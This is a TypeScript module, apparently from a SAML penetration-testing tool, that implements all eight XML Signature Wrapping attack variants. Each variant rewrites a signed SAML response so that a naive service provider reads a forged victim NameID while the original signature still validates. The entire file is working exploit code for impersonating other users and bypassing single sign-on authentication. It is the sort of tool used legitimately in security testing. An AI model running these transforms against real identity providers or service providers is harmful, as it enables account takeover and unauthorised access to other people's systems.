import { childElements, descendants, firstChild } from '../xml/dom';
import { NS } from '../xml/namespaces';
import { parseXmlOrThrow } from '../xml/parse';

/**
 * XML Signature Wrapping, the eight variants of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et
 * al., USENIX Security 2012) as SAML Raider applies them. Each keeps the signed original somewhere the
 * signature's reference still finds it, and puts an evil copy — the victim's NameID — where a naive SP reads.
 * XSW1–2 wrap a Response signature, XSW3–8 an Assertion signature.
 */
export type XswVariant = 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8';

export const XSW_VARIANTS: readonly XswVariant[] = ['xsw1', 'xsw2', 'xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8'];

export const XSW_DESCRIPTIONS: Record<XswVariant, string> = {
  xsw1: 'Evil Response as the root; the signed original Response moved inside its Signature',
  xsw2: 'Evil Response as the root; the signed original Response placed before its Signature',
  xsw3: 'An evil unsigned Assertion placed before the signed one',
  xsw4: 'An evil unsigned Assertion that wraps the signed one',
  xsw5: 'The signed Assertion made evil; an unsigned copy of the original appended to the Response',
  xsw6: 'The signed Assertion made evil; an unsigned copy of the original inside its Signature',
  xsw7: 'An evil unsigned Assertion hidden in samlp:Extensions before the signed one',
  xsw8: 'The signed Assertion made evil; an unsigned copy of the original in a ds:Object inside its Signature',
};

let counter = 0;
const evilId = (what: string) => `_evil_${what}_${++counter}`;

function signatureOf(el: Element): Element {
  const sig = firstChild(el, NS.ds, 'Signature');
  if (!sig) throw new Error(`the <${el.localName}> is not signed, so there is nothing to wrap`);
  return sig;
}

function withoutSignature(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = firstChild(copy, NS.ds, 'Signature');
  if (sig) copy.removeChild(sig);
  return copy;
}

/** Puts the victim in every NameID of the element (the Subject's, and a Response's assertion's). */
function impersonate(el: Element, victim: string): void {
  for (const nameId of descendants(el, NS.saml, 'NameID')) {
    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
    nameId.appendChild(el.ownerDocument.createTextNode(victim));
  }
}

function assertionOf(response: Element): Element {
  const a = childElements(response, NS.saml, 'Assertion')[0];
  if (!a) throw new Error('the response has no Assertion');
  return a;
}

const APPLY: Record<XswVariant, (doc: Document, victim: string) => void> = {
  xsw1: (doc, victim) => {
    const root = doc.documentElement;
    const original = withoutSignature(root);
    impersonate(root, victim);
    root.setAttribute('ID', evilId('response'));
    signatureOf(root).appendChild(original);
  },
  xsw2: (doc, victim) => {
    const root = doc.documentElement;
    const original = withoutSignature(root);
    impersonate(root, victim);
    root.setAttribute('ID', evilId('response'));
    root.insertBefore(original, signatureOf(root));
  },
  xsw3: (doc, victim) => {
    const a = assertionOf(doc.documentElement);
    const evil = withoutSignature(a);
    evil.setAttribute('ID', evilId('assertion'));
    impersonate(evil, victim);
    doc.documentElement.insertBefore(evil, a);
  },
  xsw4: (doc, victim) => {
    const a = assertionOf(doc.documentElement);
    const evil = withoutSignature(a);
    evil.setAttribute('ID', evilId('assertion'));
    impersonate(evil, victim);
    doc.documentElement.replaceChild(evil, a);
    evil.appendChild(a);
  },
  xsw5: (doc, victim) => {
    const a = assertionOf(doc.documentElement);
    const original = withoutSignature(a);
    impersonate(a, victim);
    a.setAttribute('ID', evilId('assertion'));
    doc.documentElement.appendChild(original);
  },
  xsw6: (doc, victim) => {
    const a = assertionOf(doc.documentElement);
    const original = withoutSignature(a);
    impersonate(a, victim);
    a.setAttribute('ID', evilId('assertion'));
    signatureOf(a).appendChild(original);
  },
  xsw7: (doc, victim) => {
    const root = doc.documentElement;
    const a = assertionOf(root);
    const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
    const evil = withoutSignature(a);
    evil.setAttribute('ID', evilId('assertion'));
    impersonate(evil, victim);
    extensions.appendChild(evil);
    root.insertBefore(extensions, a);
  },
  xsw8: (doc, victim) => {
    const a = assertionOf(doc.documentElement);
    const original = withoutSignature(a);
    impersonate(a, victim);
    a.setAttribute('ID', evilId('assertion'));
    const object = doc.createElementNS(NS.ds, 'ds:Object');
    object.appendChild(original);
    signatureOf(a).appendChild(object);
  },
};

/** The response wrapped as the variant says, impersonating the victim. */
export function applyXsw(xml: string, variant: XswVariant, victim: string): string {
  const doc = parseXmlOrThrow(xml);
  APPLY[variant](doc, victim);
  return doc.toString();
}
